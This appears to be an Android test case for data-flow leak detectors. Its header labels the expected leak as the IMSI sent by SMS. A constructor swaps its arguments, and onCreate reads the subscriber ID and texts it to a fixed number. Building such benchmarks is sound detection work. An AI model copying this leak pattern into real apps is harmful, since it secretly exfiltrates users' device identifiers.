// about       The constructor stores its first argument in the second field; that field is sent.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Range {
    final String first;
    final String second;

    Range(String a, String b) {
      this(b, a, true);
    }

    private Range(String first, String second, boolean ordered) {
      this.first = first;
      this.second = second;
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Range range = new Range(phone.getSubscriberId(), "zero");
    // The constructor put the first argument here.
    String text = range.second;
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
